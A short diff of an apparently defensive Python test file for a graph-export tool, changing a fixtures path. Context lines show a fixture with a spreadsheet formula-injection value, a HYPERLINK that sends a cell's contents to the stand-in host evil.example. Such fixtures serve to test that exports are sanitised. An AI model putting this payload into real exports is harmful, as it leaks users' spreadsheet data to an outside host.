@@ -24,7 +24,7 @@ from graph.data.load import validate_package
 from graph.export import export_graph, studies_of
 from graph.query.details import doi_url, safe_url, study_summary
 
-MINI = Path(__file__).parent / "fixtures" / "mini"
+MINI = Path(__file__).parents[1] / "fixtures" / "mini"
 
 FORMULAS = {  # node -> attribute -> a value a spreadsheet would run as a formula
     "policy": {"label": '=HYPERLINK("http://evil.example/?x="&A1,"click")'},
